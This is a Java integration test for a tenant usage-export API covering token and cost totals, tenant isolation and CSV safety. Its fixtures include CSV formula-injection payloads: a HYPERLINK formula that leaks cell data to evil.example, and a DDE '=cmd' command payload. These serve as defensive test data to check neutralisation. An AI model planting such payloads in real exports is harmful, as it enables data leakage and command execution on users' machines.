package dev.inferencemetrics.billing;

import static org.assertj.core.api.Assertions.assertThat;

import dev.inferencemetrics.apikey.ApiClient;
import dev.inferencemetrics.apikey.ApiKeyService;
import dev.inferencemetrics.apikey.ApiScope;
import dev.inferencemetrics.deployment.DeploymentDefinition;
import dev.inferencemetrics.deployment.DeploymentService;
import dev.inferencemetrics.ingest.IngestResult;
import dev.inferencemetrics.ingest.IngestService;
import dev.inferencemetrics.rollup.RequestRollup;
import dev.inferencemetrics.rollup.RequestRollupStore;
import dev.inferencemetrics.rollup.Resolution;
import dev.inferencemetrics.tenancy.TenantScope;
import dev.inferencemetrics.tenancy.TenantTransactions;
import dev.inferencemetrics.tenant.TenantService;
import dev.inferencemetrics.testing.IntegrationTest;
import dev.inferencemetrics.testing.Rfc4180;
import dev.inferencemetrics.testing.SignInForm;
import dev.inferencemetrics.testing.TestDataSets;
import java.io.IOException;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.net.CookieManager;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * GET /api/v1/usage over real HTTP: the LLMPerf runs ingested through the ingest service come back to the exact token
 * and cent, however often they are resent; hostile names survive CSV; no tenant reaches another's usage.
 */
@IntegrationTest(webEnvironment = WebEnvironment.RANDOM_PORT)
class UsageApiIT {

    static final Path LLMPERF = TestDataSets.LLMPERF;
    static final String ACME_KEY = "imk_demoAcme0000000000000000000000004XxUS0";
    static final TokenPrice LEDGER_PRICE = TokenPrice.of("0.45", "1.80", "USD");
    static final List<String> HOSTILE_NAMES = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "a,b",
            "line\nbreak",
            "carriage\r\nreturn",
            "\"quoted\"",
            "+1 555 0100",
            "-2+3",
            "@SUM(A1:A9)",
            "\tindented",
            "\rreturned",
            "Zürich – 東京");

    /** What the fixtures hold, made once per test JVM (the database outlives a test class). */
    private static Fixtures fixtures;

    private record Fixtures(
            LocalDate firstDay,
            String ledgerKey,
            String rivalKey,
            String ingestOnlyKey,
            String hostileKey,
            List<List<JsonNode>> batches,
            Map<LocalDate, Expected> expected) {}

    @LocalServerPort
    int port;

    @Autowired
    TenantService tenants;

    @Autowired
    TenantTransactions tenantTransactions;

    @Autowired
    DeploymentService deployments;

    @Autowired
    ApiKeyService keys;

    @Autowired
    IngestService ingest;

    @Autowired
    RequestRollupStore rollups;

    @Autowired
    ObjectMapper json;

    @Autowired
    Clock clock;

    @BeforeEach
    void fixtures() throws IOException {
        if (fixtures != null) {
            return;
        }
        LocalDate today = LocalDate.ofInstant(clock.instant(), ZoneOffset.UTC);
        long ledger = tenants.createIfAbsent("ledger-labs", "Ledger Labs");
        long rival = tenants.createIfAbsent("rival-labs", "Rival Labs");
        long hostile = tenants.createIfAbsent("hostile-labs", "=cmd|' /C calc'!A0");
        long archive = tenants.createIfAbsent("archive-labs", "Archive Labs");
        deployment(ledger, "ledger-llmperf", "LLMPerf runs", LEDGER_PRICE);
        deployment(rival, "rival-model", "Rival model", TokenPrice.of("1", "1", "EUR"));
        deployment(archive, "archive-model", "Archive model", TokenPrice.of("0.10", "0.20", "USD"));
        for (int i = 0; i < HOSTILE_NAMES.size(); i++) {
            deployment(hostile, "hostile-" + i, HOSTILE_NAMES.get(i), TokenPrice.of("1", "1", "USD"));
        }
        List<List<JsonNode>> batches = new ArrayList<>();
        Map<LocalDate, Expected> expected = new TreeMap<>();
        List<Path> files = llmPerfFiles();
        for (int i = 0; i < files.size(); i++) {
            LocalDate day = today.minusDays(1 + i % 3);
            Instant start = day.atTime(1 + 2 * (i / 3), 0).toInstant(ZoneOffset.UTC);
            JsonNode records = json.readTree(files.get(i).toFile());
            List<JsonNode> batch = samples(files.get(i).getFileName().toString(), records, start);
            IngestResult result = ingest.ingestRequests(client(ledger), "ledger-llmperf", batch);
            assertThat(result.rejected()).as(files.get(i) + " rejected").isZero();
            batches.add(batch);
            expected.merge(day, Expected.of(records), Expected::plus);
        }
        Instant yesterdayNoon = today.minusDays(1).atTime(12, 0).toInstant(ZoneOffset.UTC);
        ingest.ingestRequests(client(rival), "rival-model", List.of(sample("r-1", yesterdayNoon, 10, 20)));
        for (int i = 0; i < HOSTILE_NAMES.size(); i++) {
            ingest.ingestRequests(client(hostile), "hostile-" + i, List.of(sample("h-" + i, yesterdayNoon, i, 1)));
        }
        archiveHistory(today);
        fixtures = new Fixtures(
                today.minusDays(3),
                key(ledger, EnumSet.of(ApiScope.USAGE_READ)),
                key(rival, ApiScope.tenantScopes()),
                key(ledger, EnumSet.of(ApiScope.INGEST, ApiScope.METRICS_READ)),
                key(hostile, EnumSet.of(ApiScope.USAGE_READ)),
                batches,
                expected);
    }

    @Test
    void the_export_holds_the_tokens_of_the_llmperf_runs_exactly_and_their_cost_to_the_cent() throws Exception {
        HttpResponse<String> response = get(ledgerPeriod("csv"), fixtures.ledgerKey());

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValueSatisfying(disposition -> assertThat(disposition).contains("usage-ledger-labs-"));
        assertThat(response.headers().firstValue("Content-Type"))
                .hasValueSatisfying(type -> assertThat(type).startsWith("text/csv"));
        List<List<String>> records = Rfc4180.parse(response.body());
        assertThat(records.getFirst()).isEqualTo(UsageCsv.COLUMNS);
        List<List<String>> rows = records.subList(1, records.size());
        assertThat(rows)
                .extracting(row -> row.get(4))
                .containsExactlyElementsOf(days(fixtures.expected().keySet()));
        for (List<String> row : rows) {
            Expected day = fixtures.expected().get(LocalDate.parse(row.get(4)));
            assertThat(row.subList(0, 4))
                    .containsExactly("ledger-labs", "Ledger Labs", "ledger-llmperf", "LLMPerf runs");
            assertThat(row.subList(6, 16))
                    .containsExactly(
                            Long.toString(day.requests()),
                            Long.toString(day.ok()),
                            Long.toString(day.input()),
                            Long.toString(day.output()),
                            "USD",
                            "0.45",
                            "1.80",
                            MoneyFormat.exact(LEDGER_PRICE.inputCost(day.input())),
                            MoneyFormat.exact(LEDGER_PRICE.outputCost(day.output())),
                            MoneyFormat.exact(day.cost()));
            // every request was judged against the goodput SLO at ingest; the good ones are among them
            assertThat(row.get(UsageCsv.COLUMNS.indexOf("counted_requests"))).isEqualTo(Long.toString(day.requests()));
            assertThat(Long.parseLong(row.get(UsageCsv.COLUMNS.indexOf("good_requests"))))
                    .isBetween(0L, day.ok());
        }
        Expected all =
                fixtures.expected().values().stream().reduce(Expected::plus).orElseThrow();
        BigDecimal csvTotal =
                rows.stream().map(row -> new BigDecimal(row.get(15))).reduce(BigDecimal.ZERO, BigDecimal::add);
        assertThat(csvTotal).isEqualByComparingTo(all.cost());
        assertThat(csvTotal.setScale(2, RoundingMode.HALF_EVEN))
                .isEqualTo(all.cost().setScale(2, RoundingMode.HALF_EVEN));
    }

    @Test
    void the_json_export_carries_the_same_rows_and_exact_totals_per_tenant_and_currency() throws Exception {
        JsonNode export =
                json.readTree(get(ledgerPeriod("json"), fixtures.ledgerKey()).body());

        Expected all =
                fixtures.expected().values().stream().reduce(Expected::plus).orElseThrow();
        assertThat(export.get("from").asString()).isEqualTo(fixtures.firstDay().toString());
        assertThat(export.get("rows")).hasSize(3);
        JsonNode total = export.get("totals").get(0);
        assertThat(export.get("totals")).hasSize(1);
        assertThat(total.get("tenant").asString()).isEqualTo("ledger-labs");
        assertThat(total.get("currency").asString()).isEqualTo("USD");
        assertThat(total.get("requests").asLong()).isEqualTo(all.requests());
        assertThat(total.get("okRequests").asLong()).isEqualTo(all.ok());
        assertThat(total.get("inputTokens").asLong()).isEqualTo(all.input());
        assertThat(total.get("outputTokens").asLong()).isEqualTo(all.output());
        assertThat(new BigDecimal(total.get("cost").asString())).isEqualByComparingTo(all.cost());
        assertThat(new BigDecimal(total.get("costInput").asString()))
                .isEqualByComparingTo(LEDGER_PRICE.inputCost(all.input()));
    }

    @Test
    void resent_batches_and_rejected_samples_change_no_total() throws Exception {
        String before = get(ledgerPeriod("csv"), fixtures.ledgerKey()).body();
        long ledger = tenants.createIfAbsent("ledger-labs", "Ledger Labs");
        List<JsonNode> resend = new ArrayList<>(fixtures.batches().get(0));
        Instant day = fixtures.firstDay().plusDays(1).atTime(20, 0).toInstant(ZoneOffset.UTC);
        resend.add(sample("bad-1", day, -1, 5));
        resend.add(json.readTree("{\"requestId\":\"bad-2\",\"ts\":\"" + day + "\",\"status\":\"lost\","
                + "\"inputTokens\":5,\"outputTokens\":5}"));
        resend.add(json.readTree("{\"requestId\":\"bad-3\",\"ts\":\"" + day + "\",\"ttftMs\":90,\"e2eMs\":10,"
                + "\"inputTokens\":5,\"outputTokens\":5}"));
        resend.add(sample("bad-4", clock.instant().plus(Duration.ofHours(2)), 5, 5));

        IngestResult result = ingest.ingestRequests(client(ledger), "ledger-llmperf", resend);

        assertThat(result.duplicates()).isEqualTo(fixtures.batches().get(0).size());
        assertThat(result.rejected()).isEqualTo(4);
        assertThat(get(ledgerPeriod("csv"), fixtures.ledgerKey()).body()).isEqualTo(before);
    }

    @Test
    void hostile_names_come_back_intact_and_neutralised_from_a_strict_csv_reader() throws Exception {
        String body = get("/api/v1/usage?format=csv&from=" + fixtures.firstDay(), fixtures.hostileKey())
                .body();

        List<List<String>> rows = Rfc4180.parse(body).subList(1, HOSTILE_NAMES.size() + 1);
        for (List<String> row : rows) {
            String name = HOSTILE_NAMES.get(Integer.parseInt(row.get(2).substring("hostile-".length())));
            boolean formulaLike = "=+-@\t\r".indexOf(name.charAt(0)) >= 0;
            assertThat(row.get(3)).isEqualTo(formulaLike ? "'" + name : name);
            assertThat(row.get(1)).isEqualTo("'=cmd|' /C calc'!A0");
        }
        assertThat(rows).extracting(row -> row.get(3)).noneMatch(cell -> "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        JsonNode export =
                json.readTree(get("/api/v1/usage?format=json&from=" + fixtures.firstDay(), fixtures.hostileKey())
                        .body());
        assertThat(export.get("rows").valueStream().map(row -> row.get("deploymentName")
                        .asString()))
                .containsExactlyInAnyOrderElementsOf(HOSTILE_NAMES);
    }

    @ParameterizedTest
    @ValueSource(strings = {"csv", "json"})
    void a_tenant_key_or_user_never_obtains_another_tenants_usage(String format) throws Exception {
        String ownPeriod = "/api/v1/usage?format=" + format + "&from=" + fixtures.firstDay();
        String ledgers = ownPeriod + "&tenant=ledger-labs";

        assertThat(get(ownPeriod + "&tenant=rival-labs", fixtures.ledgerKey()).statusCode())
                .isEqualTo(403);
        assertThat(get(ledgers, fixtures.rivalKey()).statusCode()).isEqualTo(403);
        assertThat(get(ledgers, ACME_KEY).statusCode()).isEqualTo(403);
        assertThat(get(ledgers, signIn("acme-admin")).statusCode()).isEqualTo(403);
        assertThat(get(ownPeriod, signIn("acme-viewer")).statusCode()).isEqualTo(403);
        assertThat(get(ownPeriod, fixtures.ingestOnlyKey()).statusCode()).isEqualTo(403);
        assertThat(get(ownPeriod, (String) null).statusCode()).isEqualTo(401);
        assertThat(tenantsIn(format, get(ownPeriod, fixtures.rivalKey()))).containsOnly("rival-labs");
        assertThat(tenantsIn(format, get(ownPeriod, ACME_KEY))).doesNotContain("ledger-labs", "rival-labs");
        assertThat(tenantsIn(format, get(ownPeriod, signIn("acme-admin")))).doesNotContain("ledger-labs", "rival-labs");
        HttpClient operator = signIn("operator");
        assertThat(tenantsIn(format, get(ownPeriod, operator))).contains("ledger-labs", "rival-labs");
        assertThat(tenantsIn(format, get(ledgers, operator))).containsOnly("ledger-labs");
    }

    @Test
    void a_long_period_streams_in_chunks_rather_than_as_one_sized_body() throws Exception {
        LocalDate today = LocalDate.ofInstant(clock.instant(), ZoneOffset.UTC);
        String path = "/api/v1/usage?format=csv&tenant=archive-labs&from=" + today.minusDays(UsagePeriod.MAX_DAYS)
                + "&to=" + today;

        HttpResponse<String> response = get(path, signIn("operator"));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Transfer-Encoding")).hasValue("chunked");
        assertThat(response.headers().firstValue("Content-Length")).isEmpty();
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"usage-archive-labs-" + today.minusDays(UsagePeriod.MAX_DAYS) + "-"
                        + today.minusDays(1) + ".csv\"");
        assertThat(Rfc4180.parse(response.body())).hasSize(1 + UsagePeriod.MAX_DAYS - 1);
    }

    @Test
    void bom_true_starts_the_csv_with_a_utf8_byte_order_mark_and_nothing_else_changes() throws Exception {
        HttpResponse<byte[]> plain = getBytes(ledgerPeriod("csv"));
        HttpResponse<byte[]> marked = getBytes(ledgerPeriod("csv") + "&bom=true");

        assertThat(plain.body()).startsWith("tenant,".getBytes(StandardCharsets.US_ASCII));
        assertThat(marked.statusCode()).isEqualTo(200);
        assertThat(marked.body()).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(Arrays.copyOfRange(marked.body(), 3, marked.body().length)).isEqualTo(plain.body());
        assertThat(getBytes(ledgerPeriod("csv") + "&bom=false").body()).isEqualTo(plain.body());
    }

    @Test
    void unreadable_parameters_are_answered_with_a_problem() throws Exception {
        assertThat(get("/api/v1/usage?format=xml", fixtures.ledgerKey()).statusCode())
                .isEqualTo(400);
        assertThat(get("/api/v1/usage?from=2026-13-01", fixtures.ledgerKey()).body())
                .contains("YYYY-MM-DD");
        assertThat(get("/api/v1/usage?from=2026-11-02&to=2026-11-01", fixtures.ledgerKey())
                        .statusCode())
                .isEqualTo(400);
        assertThat(get("/api/v1/usage?from=2024-01-01&to=2026-01-01", fixtures.ledgerKey())
                        .body())
                .contains("at most 400 days");
        assertThat(get(ledgerPeriod("json") + "&bom=true", fixtures.ledgerKey()).body())
                .contains("bom applies to format=csv only");
        assertThat(get(ledgerPeriod("csv") + "&bom=yes", fixtures.ledgerKey()).body())
                .contains("bom must be true or false");
        assertThat(get("/api/v1/usage?tenant=no-such-tenant", signIn("operator"))
                        .statusCode())
                .isEqualTo(404);
    }

    /** One rollup a day for the longest period, so the export is far larger than any response buffer. */
    private void archiveHistory(LocalDate today) {
        var deployment = deployments.require(TenantScope.allTenants(), "archive-model");
        List<RequestRollup> days = new ArrayList<>();
        for (int back = 1; back < UsagePeriod.MAX_DAYS; back++) {
            RequestRollup rollup =
                    new RequestRollup(today.minusDays(back).atTime(12, 0).toInstant(ZoneOffset.UTC));
            rollup.addRequest(true, back, back);
            days.add(rollup);
        }
        tenantTransactions.run(
                TenantScope.allTenants(),
                () -> rollups.add(deployment.tenantId(), deployment.id(), Resolution.HALF_HOUR, days));
    }

    private HttpResponse<byte[]> getBytes(String path) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(uri(path))
                .header("Authorization", "Bearer " + fixtures.ledgerKey())
                .build();
        return plain().send(request, HttpResponse.BodyHandlers.ofByteArray());
    }

    private String ledgerPeriod(String format) {
        return "/api/v1/usage?format=" + format + "&from=" + fixtures.firstDay() + "&to="
                + fixtures.firstDay().plusDays(3);
    }

    private List<String> tenantsIn(String format, HttpResponse<String> response) {
        assertThat(response.statusCode()).isEqualTo(200);
        if (format.equals("json")) {
            return json.readTree(response.body())
                    .get("rows")
                    .valueStream()
                    .map(row -> row.get("tenant").asString())
                    .distinct()
                    .toList();
        }
        List<List<String>> records = Rfc4180.parse(response.body());
        return records.subList(1, records.size()).stream()
                .map(List::getFirst)
                .distinct()
                .toList();
    }

    private List<JsonNode> samples(String file, JsonNode records, Instant start) {
        List<JsonNode> samples = new ArrayList<>();
        for (int k = 0; k < records.size(); k++) {
            JsonNode record = records.get(k);
            ObjectNode sample = (ObjectNode) sample(
                    file + "-" + k,
                    start.plusSeconds(10L * k),
                    record.get("number_input_tokens").asInt(),
                    record.get("number_output_tokens").asInt());
            if (Expected.failed(record)) {
                sample.put("status", "error");
            } else {
                sample.put("status", "ok");
                sample.put("ttftMs", record.get("ttft_s").asDouble() * 1000);
                sample.put("e2eMs", record.get("end_to_end_latency_s").asDouble() * 1000);
                sample.put("tpotMs", record.get("inter_token_latency_s").asDouble() * 1000);
            }
            samples.add(sample);
        }
        return samples;
    }

    private JsonNode sample(String requestId, Instant ts, int input, int output) {
        ObjectNode sample = json.createObjectNode();
        sample.put("requestId", requestId);
        sample.put("ts", ts.toString());
        sample.put("status", "error");
        sample.put("inputTokens", input);
        sample.put("outputTokens", output);
        return sample;
    }

    private void deployment(long tenant, String slug, String name, TokenPrice price) {
        deployments.createIfAbsent(new DeploymentDefinition(tenant, slug, name, "m", "vLLM", "eu")
                .withPrices(price.inputPerMtok(), price.outputPerMtok(), price.currency()));
    }

    private String key(long tenant, Set<ApiScope> scopes) {
        return keys.create(TenantScope.tenant(tenant), tenant, "usage test", scopes, null)
                .plaintext();
    }

    private static ApiClient client(long tenant) {
        return new ApiClient(tenant, 0, "test", EnumSet.of(ApiScope.INGEST));
    }

    private static List<Path> llmPerfFiles() throws IOException {
        try (Stream<Path> files = Files.list(LLMPERF)) {
            return files.filter(f -> f.toString().endsWith(".json")).sorted().toList();
        }
    }

    private static List<String> days(Iterable<LocalDate> days) {
        List<String> written = new ArrayList<>();
        days.forEach(day -> written.add(day.toString()));
        return written;
    }

    private HttpResponse<String> get(String path, String key) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(uri(path));
        if (key != null) {
            request.header("Authorization", "Bearer " + key);
        }
        return plain().send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    private HttpResponse<String> get(String path, HttpClient session) throws IOException, InterruptedException {
        return session.send(
                HttpRequest.newBuilder(uri(path)).build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    private HttpClient signIn(String username) throws IOException, InterruptedException {
        HttpClient session = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .cookieHandler(new CookieManager())
                .followRedirects(HttpClient.Redirect.NEVER)
                .build();
        String loginPage = session.send(
                        HttpRequest.newBuilder(uri("/login")).build(), HttpResponse.BodyHandlers.ofString())
                .body();
        HttpResponse<Void> signedIn = session.send(
                HttpRequest.newBuilder(uri("/login"))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .POST(HttpRequest.BodyPublishers.ofString(SignInForm.body(username, "demo", loginPage)))
                        .build(),
                HttpResponse.BodyHandlers.discarding());
        assertThat(signedIn.headers().firstValue("Location"))
                .hasValueSatisfying(l -> assertThat(l).doesNotContain("error"));
        return session;
    }

    private HttpClient plain() {
        return HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    }

    private URI uri(String path) {
        return URI.create("http://localhost:" + port + path);
    }

    /** What a day of LLMPerf runs holds, computed straight from the files. */
    private record Expected(long requests, long ok, long input, long output) {

        static Expected of(JsonNode records) {
            long ok = 0;
            long input = 0;
            long output = 0;
            for (JsonNode record : records) {
                ok += failed(record) ? 0 : 1;
                input += record.get("number_input_tokens").asLong();
                output += record.get("number_output_tokens").asLong();
            }
            return new Expected(records.size(), ok, input, output);
        }

        static boolean failed(JsonNode record) {
            JsonNode error = record.get("error_code");
            return error != null && !error.isNull();
        }

        Expected plus(Expected other) {
            return new Expected(requests + other.requests, ok + other.ok, input + other.input, output + other.output);
        }

        BigDecimal cost() {
            return new BigDecimal(input)
                    .multiply(new BigDecimal("0.45"))
                    .add(new BigDecimal(output).multiply(new BigDecimal("1.80")))
                    .divide(BigDecimal.valueOf(1_000_000));
        }
    }
}
